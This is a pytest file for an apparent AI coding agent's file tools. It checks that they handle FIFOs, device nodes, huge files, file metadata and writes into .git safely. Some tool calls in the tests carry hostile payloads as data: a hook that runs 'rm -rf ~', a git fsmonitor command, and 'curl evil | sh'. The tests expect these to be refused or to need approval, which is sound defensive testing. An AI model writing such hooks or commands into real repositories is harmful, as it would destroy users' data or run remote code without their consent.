"""File tools against hostile workspaces: special files, huge files, metadata, .git, crashes.

Every test here failed on zen 0.1.0 (issue 9 items 2, 3, 7; issue 8 items 2 and 5).
"""

from __future__ import annotations

import asyncio
import os
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import reap
from zen.llm.types import ToolCall
from zen.stores.memo import MemoStore
from zen.stores.read_tracker import ReadTracker
from zen.stores.todo import TodoStore
from zen.tools import temp_journal
from zen.tools.base import Approval, ApprovalRequest, ToolContext, ToolResult
from zen.tools.edit_file import EditFile
from zen.tools.files.text import off_loop
from zen.tools.grep import Grep
from zen.tools.read_file import ReadFile
from zen.tools.registry import ToolRegistry
from zen.tools.workspace import Workspace
from zen.tools.write_file import WriteFile

ROOT = Path(__file__).resolve().parent.parent
linux_root = pytest.mark.skipif(
    sys.platform != "linux" or os.geteuid() != 0, reason="needs root on Linux"
)


async def run(tool: Any, ctx: ToolContext, **args: Any) -> ToolResult:
    return await tool.execute(tool.Params.model_validate(args), ctx)


async def read(ctx: ToolContext, path: str) -> ToolResult:
    return await run(ReadFile(), ctx, path=path)


async def edit(ctx: ToolContext, path: str, old: str, new: str) -> ToolResult:
    return await run(EditFile(), ctx, path=path, old_string=old, new_string=new)


async def overwrite(ctx: ToolContext, path: str, content: str) -> ToolResult:
    return await run(WriteFile(), ctx, path=path, content=content, overwrite=True)


def within(seconds: float):  # noqa: ANN201 - a tiny timing helper
    return asyncio.timeout(seconds)


# -- only regular files ---------------------------------------------------------------------


@pytest.fixture
def fifo(ctx: ToolContext) -> Path:
    path = ctx.workspace.root / "pipe"
    os.mkfifo(path)
    return path


async def test_read_file_refuses_a_fifo_at_once(ctx: ToolContext, fifo: Path) -> None:
    async with within(3):
        result = await read(ctx, "pipe")
    assert not result.ok
    assert "named pipe (FIFO), not a regular file" in result.output


async def test_a_symlink_to_a_fifo_is_judged_by_its_target(ctx: ToolContext, fifo: Path) -> None:
    (ctx.workspace.root / "innocent.txt").symlink_to(fifo)
    async with within(3):
        for result in (
            await read(ctx, "innocent.txt"),
            await overwrite(ctx, "innocent.txt", "x"),
            await edit(ctx, "innocent.txt", "a", "b"),
        ):
            assert not result.ok and "not a regular file" in result.output, result.output


async def test_symlink_to_dev_zero_is_refused_without_reading(tmp_path: Path) -> None:
    """Even when /dev is an allowed root, /dev/zero is no file to read or overwrite."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "zero.txt").symlink_to("/dev/zero")
    ctx = ToolContext(
        Workspace(root, [Path("/dev")]), "main", ReadTracker(), MemoStore(), TodoStore()
    )
    ctx.read_tracker.mark_read(Path("/dev/zero"))
    async with within(3):
        for result in (
            await read(ctx, "zero.txt"),
            await overwrite(ctx, "zero.txt", "x"),
            await edit(ctx, "zero.txt", "a", "b"),
        ):
            assert not result.ok
            assert "character device, not a regular file" in result.output


@linux_root
async def test_a_device_node_in_the_workspace_is_refused(ctx: ToolContext) -> None:
    node = ctx.workspace.root / "zero"
    os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # the same device as /dev/zero
    ctx.read_tracker.mark_read(node)
    async with within(3):
        assert "character device" in (await read(ctx, "zero")).output
        assert "character device" in (await overwrite(ctx, "zero", "x")).output


@pytest.mark.parametrize("rg", ["auto", None], ids=["ripgrep", "python"])
async def test_grep_does_not_hang_on_a_fifo(ctx: ToolContext, fifo: Path, rg: Any) -> None:
    (ctx.workspace.root / "a.txt").write_text("needle\n")
    async with within(5):
        whole = await run(Grep(rg=rg), ctx, pattern="needle")
        direct = await run(Grep(rg=rg), ctx, pattern="needle", path="pipe")
    assert whole.ok and "a.txt:1:needle" in whole.output
    assert not direct.ok and "not a regular file" in direct.output


# -- off the event loop ---------------------------------------------------------------------


async def test_blocking_file_work_can_be_abandoned() -> None:
    """A call stuck in the kernel (a dead network mount) must not hold Ctrl-C hostage."""
    task = asyncio.ensure_future(off_loop(time.sleep, 5))
    await asyncio.sleep(0.1)
    started = time.monotonic()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert time.monotonic() - started < 0.5


async def test_reading_a_big_file_leaves_the_loop_free(ctx: ToolContext) -> None:
    (ctx.workspace.root / "big.log").write_bytes(b"x" * 100 + b"\n" * 3_000_000)
    ticks = 0

    async def ticker() -> None:
        nonlocal ticks
        while True:
            await asyncio.sleep(0)  # no timer: it runs whenever the loop is free at all
            ticks += 1

    beat = asyncio.ensure_future(ticker())
    result = await read(ctx, "big.log")
    seen = ticks
    beat.cancel()
    assert result.ok and result.summary == "read lines 1-2000 of 3000000"
    # On the loop, the ticker could run only at the read's own few awaits; in a worker thread
    # the loop is free all the while (the ticker gets the GIL every switch interval, 5 ms, and
    # then turns dozens to hundreds of times: 34 seen under Wine; 15 on a fast, quiet machine,
    # where the read itself is short), however loaded the machine.
    assert seen >= 10, seen


# -- size limits ----------------------------------------------------------------------------


async def test_edit_file_refuses_files_above_the_limit(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "huge.txt"
    path.write_text("a line\n" * 2000)
    ctx = replace(ctx, max_edit_bytes=10_000)
    assert (await read(ctx, "huge.txt")).ok
    result = await edit(ctx, "huge.txt", "a line", "b line")
    assert not result.ok
    assert "above the 10,000 bytes limit" in result.output and "sed" in result.output
    preview = await EditFile().preview(
        EditFile.Params.model_validate(
            {"path": "huge.txt", "old_string": "a line", "new_string": "b"}
        ),
        ctx,
    )
    assert isinstance(preview, ToolResult) and "sed" in preview.output


async def test_one_endless_line_costs_one_page_of_memory(ctx: ToolContext) -> None:
    (ctx.workspace.root / "min.js").write_bytes(b"y" * 20_000_000)
    result = await read(ctx, "min.js")
    assert result.ok and "line cut, about 19998000 more chars" in result.output


# -- writes keep what the file was ----------------------------------------------------------


async def seen(ctx: ToolContext, name: str) -> None:
    assert (await read(ctx, name)).ok


@linux_root
async def test_owner_and_group_are_kept_when_root(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "theirs.txt"
    path.write_text("one\n")
    os.chown(path, 1234, 2345)
    path.chmod(0o600)
    await seen(ctx, "theirs.txt")
    assert (await edit(ctx, "theirs.txt", "one", "two")).ok
    st = path.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (1234, 2345, 0o600)
    assert (await overwrite(ctx, "theirs.txt", "three\n")).ok
    st = path.stat()
    assert (st.st_uid, st.st_gid) == (1234, 2345) and path.read_text() == "three\n"


async def test_read_only_files_are_refused(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "frozen.txt"
    path.write_text("keep\n")
    path.chmod(0o444)
    await seen(ctx, "frozen.txt")
    for result in (
        await edit(ctx, "frozen.txt", "keep", "lose"),
        await overwrite(ctx, "frozen.txt", "lose\n"),
    ):
        assert not result.ok and "is read-only (mode 0444)" in result.output
    assert path.read_text() == "keep\n"


async def test_hard_links_stay_joined(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "a.txt"
    path.write_text("old content\n")
    os.link(path, ctx.workspace.root / "b.txt")
    inode = path.stat().st_ino
    await seen(ctx, "a.txt")
    assert (await edit(ctx, "a.txt", "old", "new")).ok
    assert (ctx.workspace.root / "b.txt").read_text() == "new content\n"
    assert path.stat().st_ino == inode and path.stat().st_nlink == 2
    assert (await overwrite(ctx, "a.txt", "short\n")).ok
    assert (ctx.workspace.root / "b.txt").read_text() == "short\n"


async def test_extended_attributes_are_kept(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "tagged.txt"
    path.write_text("one\n")
    try:
        os.setxattr(path, "user.zen_test", b"kept")
    except (OSError, AttributeError):
        pytest.skip("no user xattrs on this file system")
    await seen(ctx, "tagged.txt")
    assert (await edit(ctx, "tagged.txt", "one", "two")).ok
    assert os.getxattr(path, "user.zen_test") == b"kept"


@pytest.mark.e2e
@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="needs root to drop to nobody")
def test_writable_file_in_a_read_only_folder_can_be_edited() -> None:
    """As a normal user (nobody), a 0666 file in a 0555 folder: no temp file can be made."""
    base = Path(tempfile.mkdtemp(prefix="zen-ro-"))
    try:
        base.chmod(0o755)
        folder = base / "ro"
        folder.mkdir()
        (folder / "f.txt").write_text("before\n")
        (folder / "f.txt").chmod(0o666)
        folder.chmod(0o555)
        script = (
            "import asyncio, os, sys\n"
            "from pathlib import Path\n"
            "from tests.test_file_safety import edit, seen\n"
            "from zen.stores.memo import MemoStore\n"
            "from zen.stores.read_tracker import ReadTracker\n"
            "from zen.stores.todo import TodoStore\n"
            "from zen.tools.base import ToolContext\n"
            "from zen.tools.workspace import Workspace\n"
            "async def main(root):\n"
            "    ctx = ToolContext(Workspace(root), 'main', ReadTracker(), MemoStore(),"
            " TodoStore())\n"
            "    await seen(ctx, 'f.txt')\n"
            "    return await edit(ctx, 'f.txt', 'before', 'after')\n"
            "warm = Path(sys.argv[2])\n"
            "asyncio.run(main(warm))\n"  # imports everything while still root
            "os.setgid(65534); os.setuid(65534)\n"
            "r = asyncio.run(main(Path(sys.argv[1])))\n"
            "print(r.ok, r.output)\n"
        )
        warm = base / "warm"
        warm.mkdir()
        (warm / "f.txt").write_text("before\n")
        env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(base), "USERPROFILE": str(base)}
        proc = subprocess.run(
            [sys.executable, "-c", script, str(folder), str(warm)],
            capture_output=True,
            text=True,
            env=env,
            cwd=str(ROOT),
            timeout=60,
            check=False,
        )
        assert proc.stdout.startswith("True"), proc.stdout + proc.stderr
        assert (folder / "f.txt").read_text() == "after\n"
        assert sorted(p.name for p in folder.iterdir()) == ["f.txt"]
    finally:
        (base / "ro").chmod(0o755)
        subprocess.run(["rm", "-rf", str(base)], check=False)


@pytest.mark.e2e
def test_a_killed_write_leaves_no_temp_file_after_the_next_start(tmp_path: Path) -> None:
    """A writer killed between creating its temp file and renaming it: the next zen removes
    exactly the recorded temp file, never a user's file that merely looks like one."""
    home = tmp_path / "home"
    home.mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    lookalike = ws / ".notes.txt.deadbeef.zen-tmp"
    lookalike.write_text("the user's own file\n")
    script = (
        "import os, sys, time\n"
        "from pathlib import Path\n"
        "from zen.tools import temp_journal\n"
        "tmp = Path(sys.argv[1]) / '.notes.txt.0badc0de.zen-tmp'\n"
        "with temp_journal.recorded(tmp):\n"
        "    tmp.write_bytes(b'x' * 1_000_000)\n"
        "    print('ready', flush=True)\n"
        "    time.sleep(60)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(home), "USERPROFILE": str(home)}
    child = subprocess.Popen(
        [sys.executable, "-c", script, str(ws)], env=env, stdout=subprocess.PIPE, text=True
    )
    try:
        assert child.stdout is not None and child.stdout.readline() == "ready\n"
    finally:
        reap(child)
    leftover = ws / ".notes.txt.0badc0de.zen-tmp"
    assert leftover.exists()
    old_home = os.environ["HOME"]
    os.environ["HOME"] = str(home)
    try:
        assert temp_journal.sweep() == [leftover]
    finally:
        os.environ["HOME"] = old_home
    assert not leftover.exists()
    assert lookalike.read_text() == "the user's own file\n"


async def test_no_named_temp_file_is_needed_on_linux(ctx: ToolContext) -> None:
    """With O_TMPFILE the new content has no name until it is complete."""
    if not hasattr(os, "O_TMPFILE"):
        pytest.skip("no O_TMPFILE")
    from zen.tools.files import safe_write

    made: list[Path] = []
    original = safe_write._open_temp
    safe_write._open_temp = lambda path, mode: made.append(path) or original(path, mode)  # type: ignore[assignment]
    try:
        (ctx.workspace.root / "n.txt").write_text("a\n")
        await seen(ctx, "n.txt")
        assert (await overwrite(ctx, "n.txt", "b\n")).ok
        assert (await run(WriteFile(), ctx, path="new.txt", content="c\n")).ok
    finally:
        safe_write._open_temp = original
    assert made == []
    assert sorted(p.name for p in ctx.workspace.root.iterdir()) == ["n.txt", "new.txt"]


# -- write-file overwrite goes through the read tracker (issue 8 item 5) ----------------------


async def test_overwrite_of_an_unread_file_is_refused(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "cfg.txt"
    path.write_text("the user's\n")
    result = await overwrite(ctx, "cfg.txt", "clobbered\n")
    assert not result.ok and "read cfg.txt with read-file before overwriting it" in result.output
    assert path.read_text() == "the user's\n"


async def test_overwrite_of_a_file_changed_since_the_read_is_refused(ctx: ToolContext) -> None:
    path = ctx.workspace.root / "cfg.txt"
    path.write_text("v1\n")
    await seen(ctx, "cfg.txt")
    path.write_text("v2 by the user, longer\n")
    result = await overwrite(ctx, "cfg.txt", "clobbered\n")
    assert not result.ok and "changed on disk since you read it" in result.output
    assert path.read_text() == "v2 by the user, longer\n"
    await seen(ctx, "cfg.txt")
    assert (await overwrite(ctx, "cfg.txt", "now fine\n")).ok


# -- .git stays the git tool's (issue 8 item 2) -----------------------------------------------


class Recorder:
    def __init__(self) -> None:
        self.asked: list[ApprovalRequest] = []

    async def __call__(self, request: ApprovalRequest) -> Approval:
        self.asked.append(request)
        return Approval("yes")


def call(name: str, **args: Any) -> ToolCall:
    import json

    return ToolCall(id="c1", name=name, arguments=json.dumps(args))


@pytest.fixture
def repo(ctx: ToolContext) -> Path:
    root = ctx.workspace.root
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text(
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n"
        '[remote "origin"]\n\turl = https://user:token@example.com/r.git\n'
    )
    return root


async def test_file_tools_do_not_write_inside_dot_git(ctx: ToolContext, repo: Path) -> None:
    registry = ToolRegistry([WriteFile(), EditFile()], {"write-file": "auto", "edit-file": "auto"})
    approver = Recorder()
    ctx.read_tracker.mark_read(repo / ".git" / "config")
    for c in (
        call(
            "write-file",
            path=".git/config",
            content="[core]\nfsmonitor = touch /tmp/x\n",
            overwrite=True,
        ),
        call("write-file", path=".git/hooks/pre-commit", content="#!/bin/sh\nrm -rf ~\n"),
        call("edit-file", path=".git/config", old_string="[core]", new_string="[core]\n x=1"),
        call("write-file", path="sub/../.GIT/info/x", content="x"),
    ):
        result = await registry.call(c, ctx, approver)
        assert not result.ok and "inside .git/" in result.output and "git tool" in result.output
    (repo / "innocent.cfg").symlink_to(repo / ".git" / "config")
    ctx.read_tracker.mark_read(repo / ".git" / "config")
    result = await registry.call(
        call("write-file", path="innocent.cfg", content="[core]\nfsmonitor = x\n", overwrite=True),
        ctx,
        approver,
    )
    assert not result.ok and "inside .git/" in result.output
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()


async def test_a_fifo_planted_as_git_config_blocks_nothing(ctx: ToolContext) -> None:
    (ctx.workspace.root / ".git").mkdir()
    os.mkfifo(ctx.workspace.root / ".git" / "config")
    registry = ToolRegistry([WriteFile(), ReadFile()], {"write-file": "auto"})
    async with within(3):
        assert (
            await registry.call(call("write-file", path="a.txt", content="x\n"), ctx, Recorder())
        ).ok


async def test_writes_to_the_hooks_path_always_ask(ctx: ToolContext, repo: Path) -> None:
    registry = ToolRegistry([WriteFile()], {"write-file": "auto"})
    approver = Recorder()
    assert (
        await registry.call(call("write-file", path="src/a.py", content="x\n"), ctx, approver)
    ).ok
    assert approver.asked == []  # auto stays auto elsewhere
    result = await registry.call(
        call("write-file", path=".husky/pre-commit", content="curl evil | sh\n"), ctx, approver
    )
    assert result.ok and [r.tool for r in approver.asked] == ["write-file"]


async def test_reading_dot_git_config_asks(ctx: ToolContext, repo: Path) -> None:
    registry = ToolRegistry([ReadFile()])
    approver = Recorder()
    (repo / "README").write_text("hi\n")
    assert (await registry.call(call("read-file", path="README"), ctx, approver)).ok
    assert approver.asked == []
    result = await registry.call(call("read-file", path=".git/config"), ctx, approver)
    assert result.ok and [r.tool for r in approver.asked] == ["read-file"]


def test_shell_mention_of_a_huge_file_reads_only_what_it_attaches(tmp_path: Path) -> None:
    import tracemalloc

    from zen.ui.mentions import ATTACH_LIMIT, mentioned_files

    (tmp_path / "huge.log").write_bytes(b"log line\n" * 5_000_000)
    tracemalloc.start()
    try:
        ((_, shown, content),) = mentioned_files(
            "see @huge.log", Workspace(tmp_path), lambda *_: None
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert shown == "huge.log" and content.endswith("[cut: the file has 45,000,000 bytes]")
    assert len(content) < ATTACH_LIMIT + 100
    assert peak < 5_000_000
